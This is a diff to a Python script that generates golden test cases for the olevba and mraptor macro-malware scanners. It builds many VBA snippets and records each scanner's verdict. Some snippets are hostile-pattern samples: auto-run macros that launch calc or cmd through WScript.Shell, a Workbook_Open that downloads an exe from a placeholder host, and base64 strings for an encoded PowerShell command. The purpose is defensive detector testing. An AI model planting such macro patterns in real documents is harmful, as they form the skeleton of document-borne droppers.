@@ -273,3 +273,89 @@ def goldens():
 
 if __name__ == '__main__' and len(os.sys.argv) > 1 and os.sys.argv[1] == 'goldens':
     goldens()
+
+
+def analysis_cases():
+    """Snippets exercising every olevba keyword and pattern, with olevba's and mraptor's verdicts on each."""
+    from oletools import olevba, mraptor
+    snippets = []
+    tables = (list(olevba.AUTOEXEC_KEYWORDS.values()) + list(olevba.SUSPICIOUS_KEYWORDS.values()))
+    for keywords in tables:
+        for kw in keywords:
+            snippets.append('Sub T()\r\n    %s 1\r\nEnd Sub\r\n' % kw)
+            snippets.append('x = a%s + 1\n' % kw)
+            snippets.append('y = %s_z\n' % kw.lower())
+            snippets.append('y = (%s)\n' % kw.upper())
+    for event in ('Painted', 'Painting', 'GotFocus', 'LostFocus', 'MouseHover', 'Click', 'Change', 'Resize',
+                  'BeforeNavigate2', 'BeforeScriptExecute', 'DocumentComplete', 'DownloadBegin',
+                  'DownloadComplete', 'FileDownload', 'NavigateComplete2', 'NavigateError', 'ProgressChange',
+                  'PropertyChange', 'SetSecureLockIcon', 'StatusTextChange', 'TitleChange', 'MouseMove',
+                  'MouseEnter', 'MouseLeave', 'Layout', 'OnConnecting', 'FollowHyperlink',
+                  'ContentControlOnEnter'):
+        snippets.append('Private Sub CommandButton1_%s()\nEnd Sub\n' % event)
+        snippets.append('Sub _%s()\nEnd Sub\n' % event)
+        snippets.append('Sub X_%sY()\nEnd Sub\n' % event)
+    snippets += [
+        # IOCs
+        'u = "http://dl.example.invalid/a.exe"\n',
+        'u = "https://dl.example.invalid:8080/path/x.php?a=1&b=2"\n',
+        'u = "ftp://10.0.0.1/file.bin" & "ftps://[::1]/"\n',
+        'u = "HTTP://UPPER.example.com/" & "xhttp://nope.example.com/"\n',
+        'u = "http://a.b.c1/x" & " http://host.xn--p1ai/z" & "http://1.2.3.4.example.com/"\n',
+        'u = "http://schemas.openxmlformats.org/x" & "http://schemas.microsoft.com/y"\n',
+        'ip = "192.168.1.256" & "010.1.1.1" & "version 1.0.0.0" & "x1.2.3.4y" & "999.1.1.1"\n',
+        'f = "C:\\Users\\Public\\payload.exe" & "evil.dll.exe" & "a.b.vbs" & "x.ps1xml" & "doc.docx" & "t.JS"\n',
+        'f = "report.pdf.scr" & "setup.msi" & "run.bat" & "ok.com"\n',
+        'e = "user@example.com"\n',
+        # hex, base64
+        's = "48656C6C6F20576F726C64"\r\n',
+        's = "4D5A9000" & "DeadBeefCafe" & "0123456789abcdef0"\n',
+        's = StrReverse("6F6C6C6548")\n',
+        's = "SGVsbG8gV29ybGQ=" & "VGhpcyBpcyBhIHRlc3Q=" & "dGVzdA==" & "QQ==" & "abcd"\n',
+        's = "cG93ZXJzaGVsbCAtbm9wIC1lbmM=" & "Q3JlYXRlT2JqZWN0KCJXU2NyaXB0LlNoZWxsIik="\n',
+        's = "ThisDocument" & "ZmlsZS5leGU=" & "aHR0cDovL2V2aWwuZXhhbXBsZS5pbnZhbGlkL2EuZXhl"\n',
+        's = "AAAA" & "AAAAAAAA" & "QUJD" & "////" & "a+b/"\n',
+        # special patterns
+        'ActiveDocument.Variables("x").Value = 1\nActiveDocument .  Variables\n',
+        'Declare PtrSafe Function EnumDateFormatsExEx Lib "kernel32" ()\nEnumSystemLanguageGroupsW 1\n',
+        'x = execve("a") & execl & system & popen\n',
+        'x = "Could contain following functions: EXEC" & EXEC\n',
+        'x = "REGISTER" & "Could contain following functions: REGISTER"\n',
+        'x = "\x08backspace"\n',
+        'Print #1, "x"\nPrint#1\n',
+        'Sub AutoOpen()\nOpen "c:\\x.txt" For Output As #1\nPrint #1, "hi"\nClose #1\nEnd Sub\n',
+        'Sub Document_Open()\nSet o = CreateObject("WScript.Shell")\no.Run "calc"\nEnd Sub\n',
+        'Sub Workbook_Open()\nx = URLDownloadToFile(0, "http://x.example.invalid/a", "c:\\a.exe", 0, 0)\nEnd Sub\n',
+        'Private Declare Function VirtualAlloc Lib "kernel32" (ByVal a As Long) As Long\n',
+        'Sub AutoOpenX()\nShell "cmd"\nEnd Sub\n',
+        'Sub xAuto_Ope()\nEnd Sub\nDeclare Sub Sleep Lib "kernel32"\n',
+        'Sub Foo_ClickBar()\nKill "x"\nEnd Sub\n',
+        'Sub T()\nOpen "a" _\n For Binary As #1\nEnd Sub\n',
+        'Sub T()\nx = "a" & _\r\n  "b"\r\nShell _\r\n "calc"\r\nEnd Sub\r\n',
+        'Set s = CreateObject("ADODB.Stream")\ns.SaveToFile "c:\\a.exe"\n',
+        'Sub T()\n\' a comment with powershell -EncodedCommand\nEnd Sub\n',
+        "x = Chr(72) & Chr(105) & ChrW(33)\nx = StrReverse(\"llehS\")\n",
+        'x = "日本語のコメント Shell" & "こんにちはShell" & "Shellこんにちは"\n',
+        'Sub Auto_Close()\nEnd Sub\nSub Workbook_BeforeClose()\nEnd Sub\nSub DocumentBeforeClose()\nEnd Sub\n',
+        'Sub T()\n  Application.Run "x"\n  ExecuteExcel4Macro "EXEC(""calc"")"\nEnd Sub\n',
+        '',
+        'Attribute VB_Name = "Module1"\r\n',
+    ]
+    cases = []
+    for code in snippets:
+        scanner = olevba.VBA_Scanner(code)
+        results = scanner.scan(include_decoded_strings=False, deobfuscate=False)
+        raptor = mraptor.MacroRaptor(code)
+        raptor.scan()
+        cases.append({'code': code,
+                      'analysis': [{'type': t, 'keyword': k, 'description': d} for (t, k, d) in results],
+                      'mraptor': {'flags': raptor.get_flags(), 'suspicious': raptor.suspicious}})
+    path = os.path.join(OUT, 'golden', 'analysis-cases.json')
+    with open(path, 'w', encoding='utf-8') as f:
+        json_dump = __import__('json').dumps(cases, ensure_ascii=False, indent=0, sort_keys=True)
+        f.write(json_dump + '\n')
+    print('analysis cases', len(cases))
+
+
+if __name__ == '__main__' and len(os.sys.argv) > 1 and os.sys.argv[1] == 'goldens':
+    analysis_cases()
